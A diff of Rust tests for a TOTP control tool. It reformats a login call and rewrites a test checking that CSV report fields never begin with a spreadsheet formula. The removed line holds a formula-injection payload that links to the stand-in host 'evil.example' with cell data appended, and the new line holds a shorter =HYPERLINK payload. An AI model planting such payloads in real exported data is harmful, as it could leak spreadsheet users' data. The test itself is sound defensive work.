@@ -34,7 +34,12 @@ fn a_reset_keeps_the_users_disable_and_expiry() {
     ok(&world.totpctl(&["disable", "dan"]));
     let new_key = common::random_secret();
     ok(&world.totpctl(&["reset", "dan", "--secret", &new_key]));
-    let run = world.login("totp", "dan", Some(RHOST), &oathtool(&new_key, Some(now), &[]));
+    let run = world.login(
+        "totp",
+        "dan",
+        Some(RHOST),
+        &oathtool(&new_key, Some(now), &[]),
+    );
     assert!(
         !run.success,
         "`reset` undid an administrator's `disable` (the help desk may not `enable`): {run:?}"
@@ -90,7 +95,9 @@ fn ok_bytes(out: &std::process::Output) -> Vec<u8> {
 #[test]
 fn report_csv_never_starts_a_field_with_a_formula() {
     let world = World::new();
-    let name = "=HYPERLINK(\"https:\"&CHAR(47)&CHAR(47)&\"evil.example?\"&A1,\"help\")";
+    // A name with quotes is refused outright now (`config::check_name`);
+    // one without still reaches the report as NSS can give it.
+    let name = "=HYPERLINK(CHAR(104)&A1)";
     ok(&world.totpctl(&[
         "enroll",
         name,
